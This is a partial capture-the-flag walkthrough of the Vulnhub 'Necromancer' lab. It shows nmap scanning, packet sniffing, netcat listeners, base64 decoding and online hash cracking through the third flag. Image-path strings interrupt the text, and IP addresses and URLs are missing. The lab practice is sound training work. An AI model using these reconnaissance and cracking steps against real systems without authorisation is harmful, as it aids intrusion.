Vulnhub – Necromancer

A friend of mine told me about where people upload various vulnerable images. Hackers, security professionals and anyone interested in cyber security can download an image of their choice, setup their virtual environment and have fun. I decided to give it a try too and chose Necromancer as my first image. The interesting name was the only reason why I chose this image.

The greek prefix ‘Necro-‘ means death and the suffix ‘-mancer’ means a practitioner of a specific type of divination ultimately suggesting the meaning of ‘Necromancer’ as a method of divination through alleged communication with the dead.

The game has 11 flags, one leading to another and hence such games are also popularly called ‘Capture The Flag’ or CTFs. So without any further ado lets get started with the game.

Discovering the Target

Let’s see where our target machine is. We’ll try to figure out the interface.

root@Sierra ~ % ifconfig
eth0: flags=4099<UP,BROADCAST,MULTICAST> mtu 1500
ether b8:2a:72:b8:1c:78 txqueuelen 1000 (Ethernet)
RX packets 0 bytes 0 (0.0 B)
RX errors 0 dropped 0 overruns 0 frame 0
TX packets 0 bytes 0 (0.0 B)
TX errors 0 dropped 0 overruns 0 carrier 0 collisions 0
lo: flags=73<UP,LOOPBACK,RUNNING> mtu 65536
inet netmask
inet6 ::1 prefixlen 128 scopeid 0x10<host>
loop txqueuelen 1000 (Local Loopback)RX packets 688 bytes 55196 (53.9 KiB)
RX errors 0 dropped 0 overruns 0 frame 0
TX packets 688 bytes 55196 (53.9 KiB)
TX errors 0 dropped 0 overruns 0 carrier 0 collisions 0
vboxnet0: flags=4163<UP,BROADCAST,RUNNING,MULTICAST> mtu 1500
inet netmask broadcast
inet6 fe80::800:27ff:fe00:0 prefixlen 64 scopeid 0x20<link>
ether 0a:00:27:00:00:00 txqueuelen 1000 (Ethernet)
RX packets 0 bytes 0 (0.0 B)
RX errors 0 dropped 0 overruns 0 frame 0
TX packets 267 bytes 13258 (12.9 KiB)
TX errors 0 dropped 0 overruns 0 carrier 0 collisions 0

The “vboxnet0” is the interface we’re looking for. Now that we know our target interface, let’s figure out the target’s IP address.

root@Sierra ~ % nmap -sn -n -v | grep -v “host down”
Starting Nmap 7.60 ( ) at 2017-11-05 10:24 IST
Initiating ARP Ping Scan at 10:24
Scanning 255 hosts [1 port/host]
Completed ARP Ping Scan at 10:24, 3.49s elapsed (255 total hosts)
Nmap scan report for
Host is up (0.00012s latency).
MAC Address: 08:00:27:57:13:4F (Oracle VirtualBox virtual NIC)
Nmap scan report for
Host is up (0.00039s latency).
MAC Address: 08:00:27:DE:4E:19 (Oracle VirtualBox virtual NIC)
Nmap scan report for
Host is up.
Read data files from: /usr/bin/../share/nmapNmap done: 256 IP addresses (3 hosts up)scanned in 3.56 seconds
Raw packets sent: 508 (14.224KB) | Rcvd: 2 (56B)

Got it! is our target machine. Before we start attacking our target machine, let me remind you of a quote which is quite dear to a lot of cyber-security professionals.

Give me six hours to chop down a tree and I will spend the first four sharpening the axe.

— Abraham Lincoln

Had he born in this digital era, he would have said:

Give me six hours to attack a machine and I will spend the first four enumerating it.

— Abraham “Cyber” Lincoln

Following his steps, let’s scan the machine for any running and vulnerable service. See if the scan comes up with an open port.

root@Sierra ~ % nmap -v -sV -n -e vboxnet0 -p 1-65535
Starting Nmap 7.60 ( ) at 2017-11-05 10:38 IST
NSE: Loaded 42 scripts for scanning.
Initiating ARP Ping Scan at 10:38
Scanning [1 port]
Completed ARP Ping Scan at 10:38, 0.23s elapsed (1 total hosts)
Initiating SYN Stealth Scan at 10:38
Scanning [65535 ports]
SYN Stealth Scan Timing: About 2.27% done; ETC: 11:01 (0:22:17 remaining)
SYN Stealth Scan Timing: About 5.23% done; ETC: 11:01 (0:21:07 remaining)
SYN Stealth Scan Timing: About 9.58% done; ETC: 11:00 (0:19:59remaining)
SYN Stealth Scan Timing: About 14.37% done; ETC: 11:00 (0:18:52 remaining)
SYN Stealth Scan Timing: About 19.40% done; ETC: 11:00 (0:17:43 remaining)
SYN Stealth Scan Timing: About 24.43% done; ETC: 11:00 (0:16:36 remaining)
SYN Stealth Scan Timing: About 29.45% done; ETC: 11:00 (0:15:29 remaining)
SYN Stealth Scan Timing: About 34.48% done; ETC: 11:00 (0:14:23 remaining)
SYN Stealth Scan Timing: About 39.51% done; ETC: 11:00 (0:13:16 remaining)
SYN Stealth Scan Timing: About 44.53% done; ETC: 11:00 (0:12:10 remaining)
SYN Stealth Scan Timing: About 49.55% done; ETC: 11:00 (0:11:04 remaining)
SYN Stealth Scan Timing: About 54.58% done; ETC: 11:00 (0:09:57 remaining)
SYN Stealth Scan Timing: About 59.83% done; ETC: 11:00 (0:08:48 remaining)
SYN Stealth Scan Timing: About 64.86% done; ETC: 11:00 (0:07:42 remaining)
SYN Stealth Scan Timing: About 69.89% done; ETC: 11:00 (0:06:36 remaining)
SYN Stealth Scan Timing: About 74.91% done; ETC: 11:00 (0:05:30 remaining)
SYN Stealth Scan Timing: About 79.94% done; ETC: 11:00 (0:04:24 remaining)
SYN Stealth Scan Timing: About 84.96% done; ETC: 11:00 (0:03:18 remaining)
SYN Stealth Scan Timing: About 89.98% done; ETC: 11:00 (0:02:12 remaining)
SYN Stealth Scan Timing: About 95.01% done;ETC: 11:00 (0:01:06 remaining)
Completed SYN StealthScan at 11:00, 1314.42s elapsed (65535 total ports)
Initiating Service scan at 11:00
NSE: Script scanning
Initiating NSE at 11:00
Completed NSE at 11:00, 0.00s elapsed
Initiating NSE at 11:00
Completed NSE at 11:00, 0.00s elapsed
Nmap scan report for
Host is up (0.00036s latency).
All 65535 scanned ports on are filtered
MAC Address: 08:00:27:DE:4E:19 (Oracle VirtualBox virtual NIC)
Read data files from: /usr/bin/../share/nmap
Service detection performed. Please report any incorrect results at .
Nmap done: 1 IP address (1 host up) scanned in 1315.14 seconds
Raw packets sent: 131071 (5.767MB) | Rcvd: 23 (1.436KB)

All the ports are closed!! So much for the guidance Mr. Lincoln. 😐

Flag 1 : Chant Of The Wooden Box

If active reconnaissance doesn’t work, how about some passive? Let’s start a sniffer to listen to all the traffic inbound to this interface.

root@Sierra ~ % tcpdump -i vboxnet0
tcpdump: verbose output suppressed, use -v or -vv for full protocol decode
listening on vboxnet0, link-type EN10MB (Ethernet), capture size 262144 bytes
11:04:03.782096 IP > Flags [S], seq 4198818755,
win 16384, options [mss 1460,nop,nop,sackOK,nop,wscale 3,nop,nop,TS val 1021336954 ecr
0], length 0
11:04:03.782158 IP > Flags [R.], seq 0, ack
4198818756, win 0, length 0
11:04:03.785105 ARP, Request who-has tell, length 28
11:04:03.785109 ARP, Request who-has tell, length 28
11:04:03.787769 ARP, Request who-has tell, length 28Looks like the machine is trying to talk to us on port 4444. See what it has to say.

root@Sierra ~ % netcat-lvp 4444
listening on [any] 4444 … inverse host lookup failed: Host name lookup failure
connect to [] from (UNKNOWN) [] 36177

The text between the “…” at the beginning and “…” at the end looks like a base64 encryption. Seems like we’re headed towards something. Let’s find out.

root@Sierra ~ % echo “V2VsY29tZSENCg0KWW91IGZpbmQgeW91cnNlbGYgc3RhcmluZyB0b3dhcmRzIHRoZSBo
|base64 --decode
You find yourself staring towards the horizon, with nothing but silence surrounding you.
You look east, then south, then west, all you can see is a great wasteland of nothingness.
Turning to your north you notice a small flicker of light in the distance.
You walk north towards the flicker of light, only to be stopped by some type of invisible
The air around you begins to get thicker, and your heart begins to beat against your chest.
You turn to your left.. then to your right! You are trapped!
You fumble through your pockets.. nothing!
You look down and see you are standing in sand.
Dropping to your knees you begin to dig frantically.
As you dig you notice the barrier extends underground!
Frantically you keep digging and digging until your nails suddenly catch on an object.
You dig further and discover a small wooden box.
flag1{e6078b9b1aac915d11b9fd59791030bf} is engraved on the lid.
You open the box, and find a parchment with the following written on it. “Chant the string
of flag1 -- u666”

Flag 2 : Words In The Sands

So, we have some text and we need tochant it on u666. This u666 seems to me like UDP port 666. Let’s see if it works.

root@Sierra ~ % netcat -u 666
Chant had no affect! Try in a different tongue!
You gasp for air! Time is running out!

Thought so! It’s not going to be easy. The text must be some cipher that we need to decrypt. I tried with base64 but no use. I googled a little and stumbled upon crackstation. This site has a huge indexeddatabase to decrypt hashes.

Decrypted Flag 1

The text of flag 1 decrypts to opensesame. Let’s try chanting this on UDP 666.

root@Sierra ~ % netcat -u 666
A loud crack of thunder sounds as you are knocked to your feet!
Dazed, you start to feel fresh air entering your lungs.
You are free!
In front of you written in the sand are the words:
As you stand to your feet you notice that you can no longer see the flicker of light in the
You turn frantically looking in all directions until suddenly, a murder of crows appear on
the horizon.
As they get closer you can see one of the crows is grasping on to an object. As the sun hits
the object, shards of light beam from its surface.
The birds get closer, and closer, and closer.
Staring up at the crows you can see they are in a formation.
Squinting your eyes from the light coming from the object, you can see the formation looks
like the numeral 80.
As quickly as the birds appeared, they have left you once again…. alone… tortured by the
deafening sound of silence.666 is closed.

We found our second flag. I tried decrypting flag 2 as well but it failed. Looks like the database of the website is huge but not huge enough to defeat Necromancer. The“numerical 80” is an obvious indication to HTTP port 80. Let’s hit it.

Flag 3 : Binary and yet the text

Upon visiting port 80 we get a message on the page with a pic below it.

Port 80

The message says:

Hours have passed since you first started to follow the crows.

Silence continues to engulf you as you treck towards a mountain range on the horizon.

More times passes and you are now standing in front of a great chasm.

Across the chasm you can see a necromancer standing in the mouth of a cave, staring skyward at the circling crows.

As you step closer to the chasm, arock dislodges from beneath your feet and falls into the dark depths.

The necromancer looks towards you with hollow eyes which can only be described as death.

He smirks in your direction, and suddenly a bright light momentarily blinds you.

The silence is broken by a blood curdling screech of a thousand birds, followed by the necromancers laughs fading as he decends into the cave!

The crows break theirformation, some flying aimlessly in the air; others now motionless upon the ground.

The cave is now protected by a gaseous blue haze, and an organised pile of feathers lay before you.

The grouping of feathers in the pic looks like a 21321. Maybe the decrypted value of flag 2 is supposed to be sent on this port. So I tried the next result on google and went to Thistime it decrypted and the message is 1033750779. Let’s try chanting it on port 21321.

root@Sierra ~ % netcat 21321
(UNKNOWN) [] 21321 (?) : Connection timed out

Nope! Nothing there. There could be some text or a file hidden insidethe pic. Let’s see if we can extract something out of it.

root@Sierra ~ % wget
--2017-11-05 15:24:51--
Connecting to… connected.
HTTP request sent, awaiting response… 200 OK
Length: 37289 (36K) [image/jpeg]
Saving to: ‘pileoffeathers.jpg’
pileoffeathers.jpg 100%[===>] 36.42K --.-KB/s in 0.001s
2017-11-05 15:24:51 (26.5 MB/s) -- ‘pileoffeathers.jpg’ saved [37289/37289]
root@Sierra ~ % binwalk -e pileoffeathers.jpg
0 0x0 JPEG image data, EXIF standard
12 0xC TIFF image data, little-endian offset of first image directory: 8
